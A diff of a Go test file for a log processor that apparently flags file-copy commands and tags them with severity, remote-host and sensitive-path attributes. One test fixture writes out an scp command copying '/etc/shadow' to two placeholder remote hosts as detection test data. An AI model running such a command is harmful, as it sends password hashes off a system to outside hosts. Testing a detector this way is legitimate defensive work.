@@ -65,12 +65,23 @@ func TestGolden(t *testing.T) {
 	}
 }
 
-// A record to which tag adds everything must not outgrow the room that was made at once.
+// A record to which much is added must not outgrow the room that was made at once.
 func TestRoomForEveryAttribute(t *testing.T) {
-	bare := readCase(t, "bare-record/in.yaml")
-	before := records(bare)[0].Attributes().Len()
-	after := records(process(t, Config{}, bare))[0].Attributes().Len()
-	assert.Equal(t, tagAttributes, after-before)
+	logs := readCase(t, "scp/in.yaml")
+	attrs := records(logs)[0].Attributes()
+	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_ACTIONS", "true")
+	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_REPOSITORY", "o/r")
+	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_RUN_ID", "7")
+	attrs.PutBool(schema.ExecutableMemfd, true)
+	list, _ := attrs.Get(schema.CommandArgs)
+	require.NoError(t, list.FromRaw([]any{"scp", "/etc/shadow", "a@h1.example.org:x", "b@h2.example.org:y"}))
+	before := attrs.Len()
+	after := records(process(t, *defaultConfig().(*Config), logs))[0].Attributes()
+	for _, key := range []string{schema.Evasions, schema.Remotes, schema.SensitivePaths, schema.Implications, "cicd.pipeline.run.id", schema.DeploymentEnvironment} {
+		_, ok := after.Get(key)
+		assert.True(t, ok, key)
+	}
+	assert.LessOrEqual(t, after.Len()-before, tagAttributes)
 }
 
 func TestUnmatchedRecordsAreUntouched(t *testing.T) {
@@ -135,7 +146,7 @@ func TestMatchesAreCounted(t *testing.T) {
 		}
 	}
 	metadatatest.AssertEqualProcessorNetFilecopyMatches(t, telemetry, []metricdata.DataPoint[int64]{
-		point("ssh-copy", "medium", 3), point("cloud", "low", 2), point("cloud", "medium", 2),
+		point("ssh-copy", "critical", 1), point("ssh-copy", "high", 1), point("ssh-copy", "medium", 1), point("cloud", "high", 2),
 	}, metricdatatest.IgnoreTimestamp())
 }
 
@@ -165,7 +176,7 @@ func start(t *testing.T, set processor.Settings, cfg Config, next consumer.Logs)
 
 func newProcessor(tb testing.TB, cfg Config) *filecopyProcessor {
 	tb.Helper()
-	p, err := newFilecopyProcessor(processortest.NewNopSettings(metadata.Type), &cfg)
+	p, err := newFilecopyProcessor(processortest.NewNopSettings(metadata.Type), &cfg, consumertest.NewNop())
 	require.NoError(tb, err)
 	return p
 }
